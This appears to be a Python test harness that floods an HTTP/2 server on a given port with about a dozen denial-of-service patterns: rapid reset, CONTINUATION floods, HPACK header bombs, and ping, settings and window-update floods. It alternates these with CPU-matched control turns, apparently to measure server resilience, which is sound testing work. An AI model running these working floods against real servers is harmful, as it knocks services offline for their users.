"""One attack, in turns with as much work that leaves the server alone.

  attacker.py PORT ATTACK TURNS SECONDS

A line a turn: "attack FROM TO ROUNDS", or "burn FROM TO ROUNDS" for a turn that
takes as much of the CPU as the attack before it did; times are monotonic."""
import socket
import struct
import sys
import time

from raw_h2 import (CONT, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST, SETTINGS, WINDOW,
                    connect, frame, literal, message, request, request_block, setting)

SETTLE = 0.05  # what is left of the attack is dealt with


def rapid_reset():
    return b"".join(request(1 + 2 * i, "/test.Echo/Hang") +
                    frame(RST, 0, 1 + 2 * i, struct.pack(">I", 8)) for i in range(5000))


def bad_streams():
    """Streams that the server itself must reset: a window update of nothing."""
    return b"".join(request(1 + 2 * i, "/test.Echo/Hang") +
                    frame(WINDOW, 0, 1 + 2 * i, struct.pack(">I", 0)) for i in range(5000))


def refused_streams():
    return b"".join(request(1 + 2 * i, "/test.Echo/Hang") for i in range(10000))


def header_bomb():
    value = "v" * 120
    big = b"\x40" + bytes([3]) + b"x-a" + bytes([len(value)]) + value.encode()
    first = frame(HEADERS, END_HEADERS, 1, request_block("/test.Echo/Hang") + big)
    bomb = b"".join(frame(HEADERS, END_HEADERS, 3 + 2 * i,
                          request_block("/test.Echo/Hang") + b"\xbe" * 15000)
                    for i in range(100))
    return first + bomb


ATTACKS = {
    "rapid_reset": rapid_reset,
    "bad_streams": bad_streams,
    "refused_streams": refused_streams,
    "pings": lambda: frame(PING, 0, 0, b"12345678") * 20000,
    "settings": lambda: frame(SETTINGS, 0, 0, setting(3, 100)) * 20000,
    "priorities": lambda: frame(PRIORITY, 0, 1, b"\0\0\0\3\1") * 20000,
    "empty_data": lambda: request(1, "/test.Echo/Hang") + frame(DATA, 0, 1) * 20000,
    "small_data": lambda: request(1, "/test.Echo/Sum") + frame(DATA, 0, 1, message(b"")) * 4000,
    "continuations": lambda: frame(HEADERS, 0, 1, request_block("/test.Echo/Hang")) +
    frame(CONT, 0, 1, literal("x", "y" * 100) * 20) * 2000,
    "header_bomb": header_bomb,
    "garbage": lambda: b"\0\0\x04\x07\x77\x13\0\0\1abcd" * 5000,
    "windows": lambda: frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 20000,
    "window_overflow": lambda: frame(WINDOW, 0, 0, struct.pack(">I", 0x7fffffff)) * 100,
}


def attack(port, flood, seconds):
    until, rounds = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        rounds += 1
        try:
            s = connect(port)
            s.sendall(flood)
            s.settimeout(0.3)
            while s.recv(1 << 16):
                pass
        except (OSError, socket.timeout):
            pass
        s.close()
    return rounds


def burn(share, seconds):
    """Works for that share of the time."""
    period, until = 0.005, time.monotonic() + seconds
    while time.monotonic() < until:
        rest, done = time.monotonic() + period, time.process_time() + share * period
        while time.process_time() < done:
            pass
        time.sleep(max(0, rest - time.monotonic()))
    return 0


def main():
    port, name, turns, seconds = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    flood, share = ATTACKS[name](), 0
    for turn in range(2 * turns):
        start, cpu = time.monotonic(), time.process_time()
        rounds = burn(share, seconds) if turn % 2 else attack(port, flood, seconds)
        end = time.monotonic()
        share = (time.process_time() - cpu) / (end - start)
        print("burn" if turn % 2 else "attack", start, end, rounds, flush=True)
        time.sleep(SETTLE)


if __name__ == "__main__":
    main()
